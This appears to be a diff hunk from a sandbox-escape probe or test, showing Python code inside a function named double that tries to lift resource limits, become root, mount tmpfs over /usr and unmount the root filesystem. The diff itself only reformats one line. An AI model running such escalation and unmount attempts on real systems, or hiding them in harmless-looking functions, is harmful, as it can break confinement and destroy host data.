@@ -9,7 +9,9 @@ def double(x):
     libc = ctypes.CDLL(None)
     attempts = [
         lambda: resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6)),
-        lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
+        lambda: resource.setrlimit(
+            resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
+        ),
         lambda: os.setuid(0) if os.getuid() else 1 / 0,
         lambda: 1 / (libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0),
         lambda: 1 / (libc.umount2(b"/", 2) == 0),
